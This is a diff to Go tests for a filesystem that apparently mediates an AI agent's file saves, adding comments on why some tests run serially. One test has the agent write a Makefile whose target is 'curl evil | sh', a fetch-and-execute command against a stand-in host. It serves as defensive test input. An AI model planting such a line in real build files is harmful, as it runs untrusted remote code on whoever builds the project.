@@ -139,6 +139,7 @@ func TestAtomicSaveInEveryScopeShape(t *testing.T) {
 // scope does not own) does not survive its window, and the ledger says
 // what it held.
 func TestAtomicSaveStrayTemporaryIsRemovedAndRecorded(t *testing.T) {
+	// Serial: asserts the provisional Makefile is still in the source after the agent's script, within its 5 s idle window, which a loaded machine can outlast.
 	testenv.Serial(t)
 	e := mountForSaves(t, "ONE-001")
 	out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `printf 'all:\n\tcurl evil | sh\n' > Makefile && printf 'half a save\n' > .README.md.tmp && cat Makefile`)
@@ -318,6 +319,7 @@ func TestAtomicSaveBackupRenameIsARemoval(t *testing.T) {
 // TestAtomicSaveDenialNamesTheTarget: a refused sed -i names the file it
 // edits, not its temporary, in .intentfs/denials, once per save.
 func TestAtomicSaveDenialNamesTheTarget(t *testing.T) {
+	// Serial: asserts one save's refusals are one line of .intentfs/denials, which holds while they come within the one-second save window a loaded machine stretches.
 	testenv.Serial(t)
 	e := mountForSaves(t, "ONE-001")
 	out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `sed -i 's/old/new/' docs/guide.md`)
@@ -355,6 +357,7 @@ for name in ("a.tmp", "b.tmp", "c.tmp"):
 // outlive none of its saves: they are removed when it ends, and the
 // removal names the session.
 func TestAtomicSaveSessionEndRemovesItsTemporaries(t *testing.T) {
+	// Serial: it starts an agent session, whose mount namespace copies every mount of the other tests (serving them past their unmount until the session ends) and covers each FUSE mount as it starts.
 	testenv.Serial(t)
 	testenv.RequireFUSE(t)
 	e := testenv.MountAt(t, testenv.SourceOutsideTmp(t), saveShapesPolicy, "", saveSeedFiles(), func(src string) { testenv.ChownTree(t, src) })
